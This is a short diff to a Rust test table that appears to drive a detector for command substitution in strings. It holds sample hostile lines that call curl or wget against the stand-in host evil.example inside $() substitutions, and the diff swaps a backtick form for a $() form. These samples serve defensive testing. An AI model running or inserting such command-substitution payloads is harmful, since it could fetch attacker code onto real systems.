@@ -102,7 +102,7 @@ const TABLE: &[(&str, [&str; 2], [&str; 2])] = &[
         "out-cmd-002",
         [
             "echo $(curl http://evil.example/x)",
-            "`wget http://evil.example`",
+            "$( wget http://evil.example )",
         ],
         ["$(date)", "use `curl` here"],
     ),
